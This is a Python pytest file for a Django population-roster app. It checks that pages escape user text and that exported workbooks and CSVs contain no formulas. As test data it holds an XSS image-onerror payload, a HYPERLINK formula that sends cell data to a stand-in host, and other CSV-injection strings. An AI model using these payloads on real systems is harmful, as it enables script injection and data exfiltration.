"""Names, headings, notes and file names that want to be more than text: on every page, in every file that goes out."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.urls import reverse

from kham.accounts.queries import system_viewer
from kham.roster import actions, matrix_file, outgoing
from kham.roster.models import (
    Belief,
    Change,
    Gap,
    GapStep,
    GroupConflict,
    Household,
    Inquiry,
    Leftover,
    ListVersion,
    LocalGroup,
    Person,
    ReviewPair,
    RowChange,
    SourceList,
    SourceRow,
    SourceSheet,
)
from tests.access.answers import put_away
from tests.access.tables import roster as table
from tests.access.world import World
from tests.roster.world import workbook

EVIL = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"xem")'


def plant() -> None:
    """The same bad words wherever somebody's text stands."""
    said = [{"code": "x", "sentence": EVIL, "weight": 1.0, "column": "A", "heading": EVIL}]
    Person.objects.update(
        full_name=EVIL, address=EVIL, guardian_name=EVIL, workplace=EVIL, school_class="<img x>", household_role=EVIL[:30], moved_to=EVIL,
        ethnicity=EVIL[:2], awaiting="",
    )  # fmt: skip
    Household.objects.update(head_name=EVIL, address=EVIL)
    SourceList.objects.update(title=EVIL, file_name=f"{EVIL}.csv")
    SourceSheet.objects.update(name=EVIL, titles=[EVIL], notes=[EVIL])
    for sheet in SourceSheet.objects.all():
        sheet.columns = [{**column, "heading": EVIL, "examples": [EVIL]} for column in sheet.columns]
        sheet.save()
    SourceRow.objects.update(raw=[EVIL, EVIL], notes=said, link_reason=said, sheet=EVIL)
    ReviewPair.objects.update(reasons=said, note=EVIL)
    Inquiry.objects.update(words=EVIL, note=EVIL, answered_name=EVIL)
    Belief.objects.update(reason=EVIL)
    Change.objects.update(evidence=EVIL, told_by=EVIL, reason=EVIL, to_words=EVIL, decided_name=EVIL)
    Gap.objects.update(detail={"name": EVIL})
    for gap in Gap.objects.all():
        GapStep.objects.create(gap=gap, kind="note", words=EVIL, by="x", by_name=EVIL, at=gap.created_at)
    GroupConflict.objects.update(reason=EVIL, document=EVIL, decided_name=EVIL)
    LocalGroup.objects.update(label=EVIL, short=EVIL[:40], document=EVIL)
    Leftover.objects.update(sentence=EVIL)
    RowChange.objects.update(differences=[[EVIL, EVIL, EVIL]], reason=EVIL)
    ListVersion.objects.update(counts={"new": 1, "same": 0, "changed": 0, "gone": 0})


@pytest.mark.wide
@pytest.mark.parametrize(
    "row", [row for row in table.ROWS if row.method == "get" and not row.public], ids=lambda row: row.name
)
def test_no_page_draws_what_people_typed(world: World, row: Any) -> None:
    role = sorted(row.own or row.child, key=lambda one: (one != "station_officer", one))[0]
    unit = world.home(role)
    kwargs = row.make(unit, world) if row.make else {}
    for make in (
        table.a_pair,
        table.a_gap,
        table.a_conflict,
        table.a_local_group,
        table.a_change,
        table.a_household,
        table.an_inquiry,
    ):
        make(unit, world)
    plant()
    client = world.client(role)
    for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
        response = client.get(reverse(row.name, kwargs=kwargs), **headers)
        assert response.status_code in (200, 302), response.status_code
        if "html" in response.get("Content-Type", ""):
            assert b"<img src=x" not in response.content and b"<img x>" not in response.content
        disposition = response.get("Content-Disposition", "")
        assert "\n" not in disposition and "\r" not in disposition
        put_away(response)


@pytest.mark.parametrize("typed", ["²", "9" * 30, "-1", "٣"])
def test_a_first_row_that_is_no_row(world: World, typed: str) -> None:
    client, told = world.client("station_officer"), {"s0_shown": "1", "s0_first": typed}
    for name in ("roster:preview", "roster:columns"):
        made = table.a_list(world.commune, world)
        assert client.post(reverse(name, kwargs=made), told).status_code < 500


def no_formula(content: bytes) -> None:
    """Nothing but our own checks of cells is a formula; nothing links outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in text and "<hyperlink" not in text, name
            assert 'TargetMode="External"' not in text, name


BAD = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]


def test_workbooks_that_go_out_hold_text(world: World) -> None:
    unit, now = world.commune, world.now
    by = system_viewer("test", unit.path)
    names = ["Nguyễn Văn An", "Trần Thị Bình", "Lê Văn Cò", "Phạm Văn Dần", "Hoàng Thị Én"]
    rows = [("STT", "Họ và tên", "Năm sinh", "Giới tính", "Địa chỉ", FORMULA)]
    rows += [
        (at, name, 1950 + at, "Nam", bad, bad)
        for at, (name, bad) in enumerate(zip(names, BAD, strict=True), 1)
    ]
    rows += [(9, FORMULA, 1950, "Nam", FORMULA, FORMULA)]
    made = actions.receive_list(
        campaign=world.campaign(unit), unit=unit, sender="elderly_association", organisation=None, title=FORMULA, file_name="=cmd.xlsx",
        content=workbook(rows, name="=1+1"), by=by, now=now,
    )  # fmt: skip
    actions.confirm_columns(source_list=made, sheets={}, by=by, now=now)
    actions.stage(source_list=made, by=by, now=now)
    no_formula(outgoing.annotated_list(made, by=by, now=now))
    found = table.a_change_of_row(unit, world)
    RowChange.objects.update(earlier_row=made.rows.first())
    SourceRow.objects.update(raw=BAD[:2], fields={"full_name": FORMULA, "address": "@x"})
    no_formula(outgoing.changes_list(ListVersion.objects.get(later=found["list_id"]), by=by, now=now))
    for bad in BAD:
        person = table.second_person(unit, world)
        Person.objects.filter(pk=person.pk).update(full_name=bad, address=bad)
    asked = actions.numbers.request_numbers(unit=unit, neighbourhoods=[], by=by, now=now)
    no_formula(outgoing.numbers_list(asked, by=by, now=now))


def test_the_matrix_as_text_holds_no_formula() -> None:
    cell = {"count": 1, "share": 0.5}
    tables = [
        {
            "title": FORMULA,
            "heads": BAD,
            "rows": [{"name": bad, "people": 1, "cells": [cell] * len(BAD)} for bad in BAD],
        }
    ]
    for line in csv.reader(io.StringIO(matrix_file.text(tables).decode("utf-8-sig")), delimiter=";"):
        assert not [value for value in line if value.strip()[:1] in ("=", "+", "-", "@")]
    no_formula(matrix_file.book(tables, FORMULA))
